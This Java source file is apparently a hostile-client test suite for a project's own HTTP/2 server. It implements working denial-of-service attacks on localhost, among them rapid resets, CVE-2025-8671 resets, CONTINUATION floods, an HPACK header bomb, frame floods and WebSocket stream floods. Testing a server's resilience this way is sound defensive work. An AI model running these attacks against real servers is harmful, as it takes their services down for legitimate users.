package dev.resound.hostile;

import static dev.resound.hostile.Sockets.flood;
import static dev.resound.hostile.Sockets.readToEnd;
import static dev.resound.hostile.Sockets.repeated;
import static dev.resound.hostile.Sockets.send;
import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.resound.test.WireFrame;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/** Attacks on HTTP/2 (RFC 9113), over TLS or in clear text, and on WebSockets over it (RFC 8441). */
final class Http2Attacks {

    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int PRIORITY = 2;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PUSH_PROMISE = 5;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;

    private static final int ACK = 1;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int PADDED = 8;

    private static final short HEADER_TABLE_SIZE = 1;
    private static final short INITIAL_WINDOW_SIZE = 4;

    private static final int STREAMS = 100;
    /** What a client may send on a stream in advance. */
    private static final int STREAM_WINDOW = 32 * 1024;

    /** In front of a header field in HPACK: a literal that enters no table, and one that enters it (RFC 7541 6.2). */
    private static final int LITERAL = 0;

    private static final int INDEXED_LITERAL = 0x40;

    private static final byte[] REQUEST = request("GET", "/");
    private static final byte[] WEB_SOCKET =
            join(request("CONNECT", "/ws"), literals(":protocol", "websocket", "sec-websocket-version", "13"));
    private static final byte[] CANCEL = {0, 0, 0, 8};
    /** A head just below the limit of 8 KiB. */
    private static final byte[] LARGE_HEAD = join(request("POST", "/"), literals("x-large", "v".repeat(7000)));

    /** Each breaks a rule. */
    private static final List<byte[]> INVALID = List.of(
            frame(DATA, 0, 0, new byte[1]),
            frame(DATA, 0, 1, new byte[1]),
            frame(HEADERS, END_HEADERS, 2, REQUEST),
            frame(HEADERS, END_HEADERS, 1, new byte[] {
                (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF, 127
            }),
            frame(HEADERS, END_HEADERS, 1, literals("UPPER", "case")),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, literals(":method", "GET", ":method", "GET", ":path", "/")),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, literals(":method", "GET", ":scheme", "https", ":path", "")),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, literals("a", "b")),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, literals(":status", "200")),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, join(REQUEST, literals("connection", "close"))),
            frame(HEADERS, END_HEADERS | END_STREAM, 1, join(REQUEST, literals("content-length", "5"))),
            frame(HEADERS, END_HEADERS | PADDED, 1, new byte[] {(byte) 0xFF}),
            frame(CONTINUATION, END_HEADERS, 1, REQUEST),
            frame(PRIORITY, 0, 1, new byte[] {0, 0, 0, 1, 0}),
            frame(RST_STREAM, 0, 1, new byte[4]),
            frame(SETTINGS, 0, 0, new byte[5]),
            frame(SETTINGS, ACK, 0, new byte[6]),
            frame(SETTINGS, ACK, 0, new byte[0]),
            settings(INITIAL_WINDOW_SIZE, -1),
            frame(PUSH_PROMISE, END_HEADERS, 1, new byte[4]),
            frame(PING, 0, 0, new byte[7]),
            frame(PING, ACK, 0, new byte[8]),
            frame(GOAWAY, 0, 0, new byte[8]),
            frame(WINDOW_UPDATE, 0, 0, new byte[4]),
            frame(WINDOW_UPDATE, 0, 0, new byte[] {127, -1, -1, -1}),
            frame(0xFA, 0xFF, 77, new byte[77]));

    private Http2Attacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.of("streams that stall with large heads", 2, 4, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 0);
                    for (int i = 0; i < STREAMS; i++) {
                        send(socket, frame(HEADERS, END_HEADERS, 2 * i + 1, LARGE_HEAD));
                    }
                    Thread.sleep(3000);
                }),
                Attack.of("responses that no window lets out", 2, 4, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 0);
                    for (int i = 0; i < 60; i++) {
                        send(
                                socket,
                                frame(
                                        HEADERS,
                                        END_HEADERS | END_STREAM,
                                        2 * i + 1,
                                        request("GET", "/uPlot.iife.min.js")));
                    }
                    Thread.sleep(3000);
                }),
                Attack.of("rapid resets", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 0);
                    for (int id = 1; ; id += 2) {
                        send(socket, frame(HEADERS, END_HEADERS | END_STREAM, id, REQUEST));
                        send(socket, frame(RST_STREAM, 0, id, CANCEL));
                    }
                }),
                // The server resets these streams, and no limit of resets that are received would see them
                // (CVE-2025-8671).
                Attack.of("streams that make the server reset them", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    for (int id = 1; ; id += 2) {
                        send(socket, frame(HEADERS, END_HEADERS | END_STREAM, id, REQUEST));
                        send(socket, frame(WINDOW_UPDATE, 0, id, new byte[4]));
                    }
                }),
                floods("pings", frame(PING, 0, 0, new byte[8])),
                floods("settings", settings(HEADER_TABLE_SIZE, 4096)),
                floods("windows of one more byte", frame(WINDOW_UPDATE, 0, 0, new byte[] {0, 0, 0, 1})),
                floods("priorities", frame(PRIORITY, 0, 101, new byte[] {0, 0, 0, 99, 1})),
                floods("unknown frames", frame(0xEE, 0, 0, new byte[0])),
                Attack.of("CONTINUATION without an end", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    send(socket, frame(HEADERS, 0, 1, REQUEST));
                    flood(socket, repeated(frame(CONTINUATION, 0, 1, literals("a", "b")), 500));
                }),
                Attack.of("empty CONTINUATION without an end", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    send(socket, frame(HEADERS, 0, 1, REQUEST));
                    flood(socket, repeated(frame(CONTINUATION, 0, 1, new byte[0]), 500));
                }),
                // One field of 4000 bytes in the table, named by one byte, again and again (CVE-2016-6581).
                Attack.of("a head that is a bomb", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    byte[] bomb = join(
                            REQUEST,
                            field(INDEXED_LITERAL, "x", "v".repeat(4000)),
                            repeated(new byte[] {(byte) 0xBE}, 4000));
                    for (int id = 1; ; id += 2) {
                        send(socket, frame(HEADERS, END_HEADERS | END_STREAM, id, bomb));
                    }
                }),
                Attack.of("a body in frames of one byte", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    send(socket, frame(HEADERS, END_HEADERS, 1, request("POST", "/")));
                    flood(socket, repeated(frame(DATA, 0, 1, new byte[1]), 500));
                }),
                Attack.of("a body in empty frames", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    send(socket, frame(HEADERS, END_HEADERS, 1, request("POST", "/")));
                    flood(socket, repeated(frame(DATA, 0, 1, new byte[0]), 500));
                }),
                // Each response has a header of its own, which the server's table could keep.
                Attack.of("a table of headers without a limit", 1, 4, sockets -> {
                    Socket socket = open(sockets, HEADER_TABLE_SIZE, Integer.MAX_VALUE);
                    for (int id = 1; ; id += 2) {
                        String path = "/dashboard/?" + id + "q".repeat(6000);
                        send(socket, frame(HEADERS, END_HEADERS | END_STREAM, id, request("GET", path)));
                        Thread.sleep(10);
                    }
                }),
                invalid(),
                Attack.of("WebSockets that are reset at once", 0.5, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    for (int id = 1; ; id += 2) {
                        send(socket, frame(HEADERS, END_HEADERS, id, WEB_SOCKET));
                        send(socket, frame(RST_STREAM, 0, id, CANCEL));
                        Thread.sleep(10); // Each one opens first and costs two lines of the log.
                    }
                }),
                Attack.of("hundreds of WebSockets at a time", 1, 3, sockets -> {
                    for (int i = 0; i < 3; i++) {
                        Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                        for (int id = 1; id < 2 * STREAMS; id += 2) {
                            send(socket, frame(HEADERS, END_HEADERS, id, WEB_SOCKET));
                        }
                    }
                    Thread.sleep(2000);
                }),
                Attack.of("WebSockets without a window", 0.5, 4, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 0);
                    byte[] message = WireFrame.binary(new byte[4000]).bytes();
                    for (int id = 1; id < 2 * STREAMS; id += 2) {
                        send(socket, frame(HEADERS, END_HEADERS, id, WEB_SOCKET));
                        for (int sent = 0; sent < STREAM_WINDOW - message.length; sent += message.length) {
                            send(socket, frame(DATA, 0, id, message));
                        }
                    }
                    Thread.sleep(3000);
                }),
                floodsWebSocket("padding", frame(DATA, PADDED, 1, padding(255))),
                floodsWebSocket("empty DATA", frame(DATA, 0, 1, new byte[0])),
                floodsWebSocket("bytes one by one", frame(DATA, 0, 1, new byte[1])),
                floodsWebSocket(
                        "pings",
                        frame(
                                DATA,
                                0,
                                1,
                                WireFrame.frame(WireFrame.PING, new byte[0]).bytes())),
                Attack.of("CONNECT without an end", 1, 3, sockets -> {
                    Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
                    send(socket, frame(HEADERS, 0, 1, WEB_SOCKET));
                    flood(socket, repeated(frame(CONTINUATION, 0, 1, literals("a", "b")), 500));
                }));
    }

    /** The client reads nothing. */
    private static Attack floodsWebSocket(String name, byte[] frame) {
        return Attack.of("WebSockets over HTTP/2: " + name, 0.3, 3, sockets -> {
            Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
            send(socket, frame(HEADERS, END_HEADERS, 1, WEB_SOCKET));
            flood(socket, repeated(frame, 500));
        });
    }

    private static byte[] padding(int length) {
        byte[] padding = new byte[1 + length];
        padding[0] = (byte) length;
        return padding;
    }

    private static Attack floods(String name, byte[] frame) {
        return Attack.of(
                "HTTP/2 " + name,
                0.7,
                3,
                sockets -> flood(open(sockets, INITIAL_WINDOW_SIZE, 65_535), repeated(frame, 500)));
    }

    private static Attack invalid() {
        var turn = new AtomicInteger();
        return Attack.of("HTTP/2 frames that break a rule", 5, 3, sockets -> {
            Socket socket = open(sockets, INITIAL_WINDOW_SIZE, 65_535);
            send(socket, INVALID.get(turn.getAndIncrement() % INVALID.size()));
            send(socket, frame(HEADERS, END_HEADERS | END_STREAM, 9, REQUEST));
            readToEnd(socket);
        });
    }

    /** A connection whose client has sent its preface, with one setting. */
    private static Socket open(Sockets sockets, short setting, int value) throws IOException {
        Socket socket = sockets.http2();
        send(socket, join("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII), settings(setting, value)));
        send(socket, frame(SETTINGS, ACK, 0, new byte[0]));
        return socket;
    }

    private static byte[] settings(short setting, int value) {
        return frame(
                SETTINGS,
                0,
                0,
                ByteBuffer.allocate(6).putShort(setting).putInt(value).array());
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] request(String method, String path) {
        return literals(":method", method, ":scheme", "https", ":authority", "localhost", ":path", path);
    }

    private static byte[] literals(String... namesAndValues) {
        var block = new ByteArrayOutputStream();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            block.writeBytes(field(LITERAL, namesAndValues[i], namesAndValues[i + 1]));
        }
        return block.toByteArray();
    }

    private static byte[] field(int representation, String name, String value) {
        var field = new ByteArrayOutputStream();
        field.write(representation);
        string(field, name);
        string(field, value);
        return field.toByteArray();
    }

    /** RFC 7541 5.2, not compressed. */
    private static void string(ByteArrayOutputStream out, String text) {
        int length = text.length();
        if (length < 127) {
            out.write(length);
        } else {
            out.write(127);
            for (length -= 127; length >= 128; length /= 128) {
                out.write(length % 128 + 128);
            }
            out.write(length);
        }
        out.writeBytes(text.getBytes(US_ASCII));
    }

    private static byte[] join(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
